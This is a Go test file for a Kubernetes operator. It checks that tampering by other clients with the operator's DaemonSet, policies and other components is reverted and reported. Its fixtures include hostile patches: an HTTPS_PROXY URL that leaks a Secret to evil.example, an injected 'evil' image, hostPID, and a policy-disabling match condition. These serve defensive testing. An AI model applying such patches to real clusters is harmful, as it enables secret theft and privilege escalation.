package nodeagent

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/tools/events"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	"github.com/listener-operator/listener-operator/internal/names"
	"github.com/listener-operator/listener-operator/internal/testutil/apiserver"
	"github.com/listener-operator/listener-operator/internal/testutil/crds"
)

// foreignFields are changes of components by another client, by server-side apply or as JSON patches, and the fields
// that the event names.
//
//nolint:gosec // a password in a URL is the attack
var foreignFields = map[string]struct{ manifest, apply, patch, want string }{
	"an environment variable from a Secret": {
		manifest: `{apiVersion: apps/v1, kind: DaemonSet, metadata: {namespace: NAMESPACE, name: listener-node-agent}}`,
		apply: `{spec: {template: {spec: {containers: [{name: node-agent, env: [
			{name: no_proxy, valueFrom: {secretKeyRef: {name: x, key: x}}}, {name: HTTPS_PROXY, value: "http://u:$(no_proxy)@evil.example"}]}]}}}}`,
		want: "spec.template.spec.containers[node-agent].env[HTTPS_PROXY], spec.template.spec.containers[node-agent].env[no_proxy]",
	},
	"a container, and another image": {
		manifest: `{apiVersion: apps/v1, kind: DaemonSet, metadata: {namespace: NAMESPACE, name: listener-node-agent}}`,
		patch: `- {op: add, path: /spec/template/spec/containers/-, value: {name: x, image: evil}}
- {op: replace, path: /spec/template/spec/containers/0/image, value: evil}`,
		want: "spec.template.spec.containers[node-agent].image, spec.template.spec.containers[x]",
	},
	"a field without a manager": {
		manifest: `{apiVersion: apps/v1, kind: DaemonSet, metadata: {namespace: NAMESPACE, name: listener-node-agent}}`,
		patch: `- {op: add, path: /spec/template/spec/hostPID, value: true}
- {op: replace, path: /metadata/managedFields, value: [{}]}`,
		want: "spec.template.spec.hostPID",
	},
	"tokens of Pods": {
		manifest: `{apiVersion: storage.k8s.io/v1, kind: CSIDriver, metadata: {name: listeners.stackable.tech}}`,
		patch:    `- {op: add, path: /spec/tokenRequests, value: [{audience: ""}]}`, want: "spec.tokenRequests",
	},
	"a StorageClass with options": {
		manifest: `{apiVersion: storage.k8s.io/v1, kind: StorageClass, metadata: {name: listeners.stackable.tech}}`,
		patch:    `- {op: add, path: /allowVolumeExpansion, value: true}`, want: "allowVolumeExpansion",
	},
	"an exception from the policy for PodListeners": {
		manifest: `{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicy, metadata: {name: listener-operator-podlisteners}}`,
		patch:    `- {op: add, path: /spec/matchConditions/-, value: {name: never, expression: "false"}}`, want: "spec.matchConditions[never]",
	},
	"a binding to some namespaces": {
		manifest: `{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicyBinding, metadata: {name: listener-operator-podlisteners}}`,
		patch:    `- {op: add, path: /spec/matchResources, value: {namespaceSelector: {matchLabels: {a: b}}}}`, want: "spec.matchResources",
	},
	"egress in a NetworkPolicy": {
		manifest: `{apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
		patch:    `- {op: add, path: /spec/ingress/-, value: {from: [{podSelector: {}}]}}`, want: "spec.ingress[1]",
	},
	"a port of the Service of the metrics": {
		manifest: `{apiVersion: v1, kind: Service, metadata: {namespace: NAMESPACE, name: listener-operator-metrics}}`,
		apply:    `{spec: {ports: [{name: other, port: 1, protocol: TCP}]}}`, want: "spec.ports[other]",
	},
	"a volume in the SecurityContextConstraints": {
		manifest: `{apiVersion: security.openshift.io/v1, kind: SecurityContextConstraints, metadata: {name: listener-node-agent}}`,
		patch:    `- {op: add, path: /allowedFlexVolumes, value: [{driver: evil}]}`, want: "allowedFlexVolumes",
	},
	"a proxy of the ServiceMonitor": {
		manifest: `{apiVersion: monitoring.coreos.com/v1, kind: ServiceMonitor, metadata: {namespace: NAMESPACE, name: listener-operator}}`,
		patch:    `- {op: add, path: /spec/namespaceSelector, value: {any: true}}`, want: "spec.namespaceSelector",
	},
}

// writeForeignFields makes the change as the field manager "someone".
func writeForeignFields(t *testing.T, c client.Client, namespace string, name string) *unstructured.Unstructured {
	t.Helper()
	tc := foreignFields[name]
	o := object(t, strings.ReplaceAll(tc.manifest, "NAMESPACE", namespace))
	raw, err := yaml.YAMLToJSON([]byte(strings.ReplaceAll(tc.apply+tc.patch, "\t", "")))
	if err != nil {
		t.Fatal(err)
	}
	if tc.patch != "" {
		err = c.Patch(t.Context(), o.DeepCopy(), client.RawPatch(types.JSONPatchType, raw), client.FieldOwner("someone"))
	} else if err = json.Unmarshal(raw, &o.Object); err == nil {
		err = c.Apply(t.Context(), client.ApplyConfigurationFromUnstructured(o.DeepCopy()), client.FieldOwner("someone"), client.ForceOwnership)
	}
	if err != nil {
		t.Fatal(err)
	}
	return o
}

// The operator that installed them removes it, and so does its successor, both with the permissions and the policies
// that the operator is installed with. The field and its manager are reported.
func TestWhatOthersAddToComponentsIsRemoved(t *testing.T) {
	admin, namespace := fresh(t)
	optional := []crds.CRD{crds.ServiceMonitors, crds.PrometheusRules, crds.ConsoleYAMLSamples, crds.ConsoleQuickStarts, crds.SecurityContextConstraints}
	crds.Install(t, admin, optional...)
	defer crds.Remove(t, admin, optional...)
	installRBAC(t, admin, namespace)
	createConfig(t, admin)
	operator := asOperator(t, apiserver.Config(t), namespace)
	confine(t, operator, admin)
	starting := func() *Reconciler {
		r := reconcilerWithRBAC(operator, admin, namespace)
		r.serves = func(schema.GroupVersionKind) bool { return true }
		return r
	}
	first := starting()
	mustReconcile(t, first)
	for name, tc := range foreignFields {
		for who, r := range map[string]*Reconciler{"the operator": first, "its successor": nil} {
			t.Run(name+" by "+who, func(t *testing.T) {
				before := object(t, strings.ReplaceAll(tc.manifest, "NAMESPACE", namespace))
				if err := admin.Get(t.Context(), client.ObjectKeyFromObject(before), before); err != nil {
					t.Fatal(err)
				}
				counted := repairs(t)
				after := writeForeignFields(t, admin, namespace, name)
				if r == nil {
					r = starting()
				}
				recorder := events.NewFakeRecorder(100)
				r.events = recorder
				mustReconcile(t, r)
				if err := admin.Get(t.Context(), client.ObjectKeyFromObject(after), after); err != nil {
					t.Fatal(err)
				}
				if diff := cmp.Diff(contentOf(before), contentOf(after)); diff != "" {
					t.Errorf("content (-want +got):\n%s", diff)
				}
				if who == "its successor" && name == "a field without a manager" {
					return // nothing shows that it is not that of an earlier version; it is logged
				}
				if got := since(t, counted)[after.GetKind()+" "+after.GetName()]; got != 1 {
					t.Errorf("counted %v repairs, want 1", got)
				}
				NewWithT(t).Expect(recorder.Events).To(Receive(And(ContainSubstring("Warning Repaired "+after.GetKind()+" "+after.GetName()+" was changed by "), ContainSubstring("restored: "+tc.want))))
			})
		}
	}
}

// countingWrites counts how often components are written.
type countingWrites struct {
	client.Client
	writes int
}

func (c *countingWrites) Patch(ctx context.Context, o client.Object, patch client.Patch, options ...client.PatchOption) error {
	c.writes++
	return c.Client.Patch(ctx, o, patch, options...)
}

func (c *countingWrites) Apply(ctx context.Context, o runtime.ApplyConfiguration, options ...client.ApplyOption) error {
	c.writes++
	return c.Client.Apply(ctx, o, options...)
}

// They cost no further request.
func TestChangesOfOthersThatAreHarmlessStay(t *testing.T) {
	c, namespace := fresh(t)
	createConfig(t, c)
	counting := &countingWrites{Client: c}
	r := reconciler(counting, namespace)
	mustReconcile(t, r)
	agents := &appsv1.DaemonSet{}
	agents.Namespace, agents.Name = namespace, names.NodeAgent
	harmless := `{"metadata":{"labels":{"team":"blue"},"annotations":{"note":"x"}},"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"now"}}}}}`
	if err := c.Patch(t.Context(), agents, client.RawPatch(types.StrategicMergePatchType, []byte(harmless)), client.FieldOwner("kubectl-rollout")); err != nil {
		t.Fatal(err)
	}
	for range 2 { // the first one notices that something changed
		counting.writes = 0
		mustReconcile(t, r)
	}
	if counting.writes != 0 {
		t.Errorf("%d writes of objects that are as desired", counting.writes)
	}
	mustReconcile(t, reconciler(c, namespace))
	if err := c.Get(t.Context(), client.ObjectKeyFromObject(agents), agents); err != nil {
		t.Fatal(err)
	}
	if agents.Labels["team"] != "blue" || agents.Annotations["note"] != "x" || agents.Spec.Template.Annotations["kubectl.kubernetes.io/restartedAt"] != "now" || agents.Generation != 2 {
		t.Errorf("the DaemonSet has generation %d, labels %v, annotations %v, and annotations of Pods %v", agents.Generation, agents.Labels, agents.Annotations, agents.Spec.Template.Annotations)
	}
}
